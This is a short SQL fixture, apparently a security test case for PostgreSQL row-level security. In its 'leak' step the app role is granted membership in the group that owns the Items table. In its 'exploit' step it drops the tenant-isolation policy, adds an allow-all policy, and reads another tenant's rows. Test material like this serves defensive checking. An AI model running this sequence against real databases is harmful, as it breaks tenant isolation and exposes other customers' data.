-- A table belongs to a group of which the app role is a member.
-- object: public."Items"
-- object: role:{app}
-- base: mixed-case
--- setup
RESET ROLE;
CREATE ROLE {developers} NOLOGIN;
GRANT CREATE ON SCHEMA public TO {developers};
ALTER TABLE "Items" OWNER TO {developers};
REVOKE CREATE ON SCHEMA public FROM {developers};
--- leak
RESET ROLE;
GRANT {developers} TO {app};
--- exploit
DROP POLICY "TenantIsolation" ON "Items";
CREATE POLICY everything ON "Items" USING (true);
SELECT "Id" FROM "Items" WHERE "tenantId" = '{B}';
